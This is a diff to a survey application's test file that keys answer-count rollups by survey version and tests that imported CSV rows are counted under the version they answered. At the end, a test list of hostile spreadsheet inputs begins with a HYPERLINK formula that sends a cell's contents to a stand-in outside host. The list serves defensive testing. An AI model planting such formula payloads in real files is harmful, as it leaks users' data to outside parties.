@@ -20,6 +20,7 @@ from survey.models import (
     Response,
     ResponseRevision,
     ResponseTag,
+    SurveyVersion,
 )
 from survey.responding.submission import Consents, Respondent, submit_response
 from survey.results import rollups
@@ -50,8 +51,11 @@ def stored(survey) -> list[dict]:
 
 
 def counts() -> dict:
-    return {(c.question_key, c.local_date, c.segment_name, c.segment_value, c.value_int): c.count
-            for c in db.session.scalars(select(AnswerCount)) if c.count}
+    """Cell → count, each cell under the number of the version its responses answered."""
+    return {(c.question_key, c.local_date, c.segment_name, c.segment_value, c.value_int, number): c.count
+            for c, number in db.session.execute(select(AnswerCount, SurveyVersion.number)
+                                                .join(SurveyVersion, AnswerCount.version_id == SurveyVersion.id))
+            if c.count}
 
 
 def test_every_answer_type_is_stored_as_the_live_form_stores_it(ctx):
@@ -277,8 +281,40 @@ def test_imported_rows_count_in_the_rollups_exactly_as_a_rebuild_counts_them(ctx
     db.session.commit()
     assert counts() == incremental
     day = date(2026, 3, 2)
-    assert incremental[("satisfaction", day, "location", "Leeds", 4)] == 2
-    assert incremental[(rollups.RESPONSES_KEY, day, "", "", 1)] == 3
+    assert incremental[("satisfaction", day, "location", "Leeds", 4, 1)] == 2
+    assert incremental[(rollups.RESPONSES_KEY, day, "", "", 1, 1)] == 3
+
+
+def test_imported_rows_count_under_the_version_they_answered(ctx):
+    """Rows of two versions in one file (one named by the version column, the others by their questions),
+    beside live responses to either: each response's cells are its version's, as a rebuild counts them."""
+    from survey import authoring
+    from survey.authoring.definitions import parse_survey
+
+    survey = make_survey()
+    submit_response(survey.current_version, Respondent(key="live-1", source="public", attributes={"location": "Leeds"}),
+                    {"satisfaction": 4}, Consents(), submission_key="a" * 20, now=datetime(2026, 3, 2, 12))
+    definition = make_definition()
+    definition["questions"].append({"key": "effort", "type": "rating", "text": "Effort?", "scale": ["Hard", "Easy"]})
+    authoring.import_survey(parse_survey(definition), actor=None, now=NOW)
+    submit_response(survey.current_version, Respondent(key="live-2", source="public", attributes={"location": "Leeds"}),
+                    {"satisfaction": 4, "effort": 2}, Consents(), submission_key="b" * 20,
+                    now=datetime(2026, 3, 2, 13))
+    outcome = run(survey, "submitted_at,version,attr.location,satisfaction,effort\n"
+                          "2026-03-02 10:00,1,Leeds,4,\n"  # version 1 by its column
+                          "2026-03-02 11:00,,Leeds,4,\n"  # the newest version asking these questions: 2
+                          "2026-03-02 12:00,,York,2,1\n")
+    assert outcome.per_version == {1: 1, 2: 2}
+    incremental = counts()
+    day = date(2026, 3, 2)
+    assert incremental[("satisfaction", day, "location", "Leeds", 4, 1)] == 2
+    assert incremental[("satisfaction", day, "location", "Leeds", 4, 2)] == 2
+    assert incremental[("effort", day, "", "", 1, 2)] == 1 and incremental[("effort", day, "", "", 2, 2)] == 1
+    assert incremental[(rollups.RESPONSES_KEY, day, "", "", 1, 1)] == 2
+    assert incremental[(rollups.RESPONSES_KEY, day, "", "", 1, 2)] == 3
+    rollups.rebuild(survey.id)
+    db.session.commit()
+    assert counts() == incremental
 
 
 HOSTILE = ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+1", "-1+1", "@SUM(A1)",
